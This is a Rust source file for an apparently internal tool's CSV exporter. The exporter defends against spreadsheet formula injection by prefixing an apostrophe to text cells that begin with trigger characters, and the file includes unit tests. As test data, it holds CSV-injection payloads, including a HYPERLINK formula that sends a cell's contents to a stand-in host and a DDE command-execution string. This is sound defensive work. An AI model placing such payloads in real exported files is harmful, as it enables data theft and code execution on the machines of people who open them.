//! The one CSV writer of the crate (`sessiontrail query --format csv` and
//! `sessiontrail findings --format csv` both go through [`crate::write_batches`] to
//! it), and [`neutralise_formula`], which keeps a spreadsheet from running a cell of
//! it as a formula.
//!
//! The dataset holds text that users control: a caller that bypasses the broker chooses
//! its `user_agent`, the broker's fields come from requests, and the details and
//! evidence of findings quote them. A spreadsheet that opens a CSV reads a cell that
//! starts with `=`, `+`, `-` or `@` as a formula (`=HYPERLINK(...)`,
//! `=cmd|' /C calc'!A0`, `@SUM(...)`), so every text cell is written through
//! [`neutralise_formula`] (OWASP's "CSV Injection" recommendation): such a cell gets a
//! leading `'`, which spreadsheets take as "this is text", and is always quoted.
//!
//! Which cells: every cell of a text column (`Utf8`, `LargeUtf8`, `Utf8View`, or a
//! dictionary of them) of the result as the query returned it, and the header row.
//! Numbers, booleans and timestamps are written as before: a negative count stays
//! `-3`, a timestamp stays `2026-02-01T09:00:00Z`. A number held in a text column
//! (`CAST(x AS VARCHAR)`, a string literal `'-1'`) is text and does get the `'`.
//!
//! Otherwise the file is RFC 4180 as before (and as arrow's CSV writer wrote it): a
//! header row, `,` between fields, `\n` after each record, a field quoted with `"` (a
//! `"` inside doubled) when it holds `,`, `"`, CR or LF, an empty field for NULL (and
//! `""` when it is the only field of its record, so that the record is not an empty
//! line).
//!
//! Not covered: a spreadsheet that splits the file on another separator (`;` in
//! locales that use it) cuts cells where this writer did not, and a fragment after a
//! `;` inside a cell is not neutralised; import the file as comma-separated.

use std::borrow::Cow;
use std::io::{BufWriter, Write};

use datafusion::arrow::array::{Array, AsArray, RecordBatch};
use datafusion::arrow::compute::cast;
use datafusion::arrow::datatypes::{DataType, Schema};
use datafusion::arrow::error::ArrowError;
use datafusion::arrow::util::display::{ArrayFormatter, FormatOptions};

/// The characters that make a spreadsheet read a cell that starts with them as a
/// formula, or that hide what follows them: OWASP's `=`, `+`, `-`, `@`, tab and CR,
/// with LF and NUL (ASVS 1.2.10), and the full-width forms `＝` `＋` `－` `＠` that
/// spreadsheets in East Asian locales take for the ASCII ones.
pub const FORMULA_TRIGGERS: [char; 12] = [
    '=', '+', '-', '@', '\t', '\r', '\n', '\0', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

/// `text` as a spreadsheet must get it to show it as text: with a leading `'` when it
/// starts with one of [`FORMULA_TRIGGERS`], or with white space and then one of them
/// (a spreadsheet may trim leading blanks on import); unchanged otherwise.
///
/// The CSV writer always quotes a cell this changed. A value that already starts with
/// `'` is left alone, so applying this twice changes nothing more.
///
/// ```
/// use sessiontrail_report::neutralise_formula;
///
/// assert_eq!(neutralise_formula("=HYPERLINK(\"http://x\")"), "'=HYPERLINK(\"http://x\")");
/// assert_eq!(neutralise_formula(" @SUM(A1)"), "' @SUM(A1)");
/// assert_eq!(neutralise_formula("aws-cli/2.15.0"), "aws-cli/2.15.0");
/// ```
pub fn neutralise_formula(text: &str) -> Cow<'_, str> {
    if starts_a_formula(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

fn starts_a_formula(text: &str) -> bool {
    match text.chars().next() {
        None => false,
        Some(first) if FORMULA_TRIGGERS.contains(&first) => true,
        Some(first) => first.is_whitespace() && text.trim_start().starts_with(FORMULA_TRIGGERS),
    }
}

/// Whether `data_type` is text whose cells go through [`neutralise_formula`].
pub fn is_text(data_type: &DataType) -> bool {
    match data_type {
        DataType::Utf8 | DataType::LargeUtf8 | DataType::Utf8View => true,
        DataType::Dictionary(_, values) => is_text(values),
        _ => false,
    }
}

/// Writes `batches` as CSV with a header row (from the first batch's schema; nothing
/// at all when there is no batch). `text[i]` says whether column `i` is text from the
/// data (see the module's documentation); the caller decides it from the query's own
/// schema, before timestamps became text.
pub fn write_csv(
    batches: &[RecordBatch],
    text: &[bool],
    out: &mut impl Write,
) -> Result<(), CsvError> {
    let Some(first) = batches.first() else {
        return Ok(());
    };
    let mut out = BufWriter::new(out);
    let mut line = String::with_capacity(1024);
    header(&first.schema(), &mut line);
    out.write_all(line.as_bytes())?;
    let options = FormatOptions::default();
    for batch in batches {
        let columns = batch
            .columns()
            .iter()
            .enumerate()
            .map(|(index, array)| {
                if array.data_type().is_nested() {
                    return Err(ArrowError::CsvError(format!(
                        "Nested type {} is not supported in CSV",
                        array.data_type()
                    )));
                }
                if text.get(index).copied().unwrap_or(false) {
                    Ok(Cells::Text(cast(array, &DataType::Utf8)?))
                } else {
                    Ok(Cells::Formatted(ArrayFormatter::try_new(
                        array.as_ref(),
                        &options,
                    )?))
                }
            })
            .collect::<Result<Vec<_>, ArrowError>>()?;
        let mut cell = String::new();
        for row in 0..batch.num_rows() {
            line.clear();
            for (index, column) in columns.iter().enumerate() {
                if index > 0 {
                    line.push(',');
                }
                match column {
                    Cells::Text(array) => {
                        let array = array.as_string::<i32>();
                        if array.is_valid(row) {
                            let value = array.value(row);
                            let safe = neutralise_formula(value);
                            let changed = matches!(safe, Cow::Owned(_));
                            push_field(&mut line, &safe, changed);
                        }
                    }
                    Cells::Formatted(formatter) => {
                        cell.clear();
                        formatter.value(row).write(&mut cell).map_err(|e| {
                            ArrowError::CsvError(format!(
                                "Error processing row {}, col {}: {e}",
                                row + 1,
                                index + 1
                            ))
                        })?;
                        push_field(&mut line, &cell, false);
                    }
                }
            }
            end_record(&mut line, columns.len());
            out.write_all(line.as_bytes())?;
        }
    }
    out.flush()?;
    Ok(())
}

/// Why [`write_csv`] failed.
#[derive(Debug)]
pub enum CsvError {
    /// A column could not be rendered (a nested type, a failed cast).
    Render(ArrowError),
    /// The output could not be written.
    Write(std::io::Error),
}

impl From<ArrowError> for CsvError {
    fn from(error: ArrowError) -> Self {
        CsvError::Render(error)
    }
}

impl From<std::io::Error> for CsvError {
    fn from(error: std::io::Error) -> Self {
        CsvError::Write(error)
    }
}

/// A column of one batch, ready to be read cell by cell.
enum Cells<'a> {
    /// Text from the data, cast to `Utf8`.
    Text(datafusion::arrow::array::ArrayRef),
    /// Anything else, as arrow displays it (what arrow's CSV writer writes).
    Formatted(ArrayFormatter<'a>),
}

fn header(schema: &Schema, line: &mut String) {
    for (index, field) in schema.fields().iter().enumerate() {
        if index > 0 {
            line.push(',');
        }
        let safe = neutralise_formula(field.name());
        let changed = matches!(safe, Cow::Owned(_));
        push_field(line, &safe, changed);
    }
    end_record(line, schema.fields().len());
}

/// Appends one field: quoted when `quote` or when it holds `,`, `"`, CR or LF.
fn push_field(line: &mut String, value: &str, quote: bool) {
    if quote || value.contains([',', '"', '\r', '\n']) {
        line.push('"');
        for c in value.chars() {
            if c == '"' {
                line.push('"');
            }
            line.push(c);
        }
        line.push('"');
    } else {
        line.push_str(value);
    }
}

/// Ends the record in `line`: a record of one empty field is written `""`, or it would
/// read as an empty line.
fn end_record(line: &mut String, fields: usize) {
    if fields == 1 && line.is_empty() {
        line.push_str("\"\"");
    }
    line.push('\n');
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use datafusion::arrow::array::{
        ArrayRef, BooleanArray, DictionaryArray, Float64Array, Int64Array, LargeStringArray,
        StringArray, StringViewArray, TimestampMillisecondArray,
    };
    use datafusion::arrow::csv::WriterBuilder;
    use datafusion::arrow::datatypes::{Field, Int32Type};

    use super::*;

    fn batch(columns: Vec<(&str, ArrayRef)>) -> RecordBatch {
        RecordBatch::try_from_iter(columns).unwrap()
    }

    fn ours(batch: &RecordBatch) -> String {
        let text: Vec<bool> = batch
            .schema()
            .fields()
            .iter()
            .map(|field| is_text(field.data_type()))
            .collect();
        let mut out = Vec::new();
        write_csv(std::slice::from_ref(batch), &text, &mut out).unwrap();
        String::from_utf8(out).unwrap()
    }

    fn arrows(batch: &RecordBatch) -> String {
        let mut out = Vec::new();
        WriterBuilder::new()
            .with_header(true)
            .build(&mut out)
            .write(batch)
            .unwrap();
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn without_formulas_it_writes_what_arrows_csv_writer_wrote() {
        let texts = [
            Some("plain"),
            Some("a,b"),
            Some("say \"hi\""),
            Some("two\nlines"),
            Some("cr\rhere"),
            None,
            Some(""),
            Some("é ünï 日本"),
            Some("'quoted already"),
            Some("semi;colon"),
        ];
        let n = texts.len();
        let batch = batch(vec![
            (
                "text",
                Arc::new(StringArray::from(texts.to_vec())) as ArrayRef,
            ),
            (
                "n",
                Arc::new(Int64Array::from_iter((0..n as i64).map(|i| Some(i - 5)))),
            ),
            (
                "x",
                Arc::new(Float64Array::from_iter(
                    (0..n).map(|i| Some(-0.5 * i as f64)),
                )),
            ),
            (
                "b",
                Arc::new(BooleanArray::from_iter(
                    (0..n).map(|i| (i % 3 != 0).then_some(i % 2 == 0)),
                )),
            ),
            (
                "t",
                Arc::new(
                    TimestampMillisecondArray::from_iter((0..n as i64).map(|i| Some(i * 1_000)))
                        .with_timezone("UTC"),
                ),
            ),
        ]);
        assert_eq!(ours(&batch), arrows(&batch));
        // One column: an empty field is `""`, as arrow wrote it.
        let single = self::batch(vec![(
            "only",
            Arc::new(StringArray::from(vec![Some("a"), None, Some("")])) as ArrayRef,
        )]);
        assert_eq!(ours(&single), arrows(&single));
        assert_eq!(ours(&single), "only\na\n\"\"\n\"\"\n");
    }

    #[test]
    fn hostile_text_gets_a_quote_and_is_quoted_in_every_position() {
        // Each payload as the first, a middle and the last column of a row.
        let payloads = [
            (
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
                "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"",
            ),
            ("+1+1", "\"'+1+1\""),
            ("-2+3", "\"'-2+3\""),
            ("@SUM(1,2)", "\"'@SUM(1,2)\""),
            ("\t=1", "\"'\t=1\""),
            ("\r=1", "\"'\r=1\""),
            ("\n=1", "\"'\n=1\""),
            ("\0x", "\"'\0x\""),
            ("  =1+1", "\"'  =1+1\""),
            ("\u{FF1D}1+1", "\"'\u{FF1D}1+1\""),
            ("=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\""),
        ];
        for (payload, written) in payloads {
            let column = || Arc::new(StringArray::from(vec![payload])) as ArrayRef;
            let batch = batch(vec![
                ("first", column()),
                ("count", Arc::new(Int64Array::from(vec![-3])) as ArrayRef),
                ("middle", column()),
                (
                    "rate",
                    Arc::new(Float64Array::from(vec![-0.25])) as ArrayRef,
                ),
                ("last", column()),
            ]);
            assert_eq!(
                ours(&batch),
                format!("first,count,middle,rate,last\n{written},-3,{written},-0.25,{written}\n"),
                "{payload:?}"
            );
        }
    }

    #[test]
    fn every_kind_of_text_column_is_neutralised_and_nothing_else() {
        let dictionary: DictionaryArray<Int32Type> = vec!["=d", "ok"].into_iter().collect();
        let batch = batch(vec![
            (
                "utf8",
                Arc::new(StringArray::from(vec!["=a", "ok"])) as ArrayRef,
            ),
            ("large", Arc::new(LargeStringArray::from(vec!["+b", "ok"]))),
            ("view", Arc::new(StringViewArray::from(vec!["-c", "ok"]))),
            ("dict", Arc::new(dictionary)),
            ("int", Arc::new(Int64Array::from(vec![-1, 2]))),
            ("float", Arc::new(Float64Array::from(vec![-1.5, 2.0]))),
        ]);
        assert_eq!(
            ours(&batch),
            "utf8,large,view,dict,int,float\n\"'=a\",\"'+b\",\"'-c\",\"'=d\",-1,-1.5\n\
             ok,ok,ok,ok,2,2.0\n"
        );
    }

    #[test]
    fn a_column_not_marked_as_text_is_written_as_is() {
        // Timestamps become text before they are written: the caller marks them as
        // not text, and a negative year stays as it is.
        let batch = batch(vec![(
            "start_time",
            Arc::new(StringArray::from(vec!["-0001-01-01T00:00:00Z"])) as ArrayRef,
        )]);
        let mut out = Vec::new();
        write_csv(std::slice::from_ref(&batch), &[false], &mut out).unwrap();
        assert_eq!(
            String::from_utf8(out).unwrap(),
            "start_time\n-0001-01-01T00:00:00Z\n"
        );
    }

    #[test]
    fn the_header_is_neutralised_too() {
        let schema = Arc::new(Schema::new(vec![
            Field::new("=x", DataType::Int64, true),
            Field::new("ok", DataType::Int64, true),
        ]));
        let batch = RecordBatch::new_empty(schema);
        assert_eq!(ours(&batch), "\"'=x\",ok\n");
    }

    #[test]
    fn neutralising_is_idempotent_and_leaves_ordinary_text_alone() {
        for text in [
            "",
            "i-0abc",
            "arn:aws:sts::111122223333:assumed-role/x/alice@example.com",
            "aws-cli/2.15.0 Python/3.11",
            "{\"a\":1}",
            "a=b",
            "x-1",
            " leading space",
        ] {
            assert!(
                matches!(neutralise_formula(text), Cow::Borrowed(_)),
                "{text:?}"
            );
        }
        let once = neutralise_formula("=1+1").into_owned();
        assert_eq!(once, "'=1+1");
        assert_eq!(neutralise_formula(&once), once);
    }
}
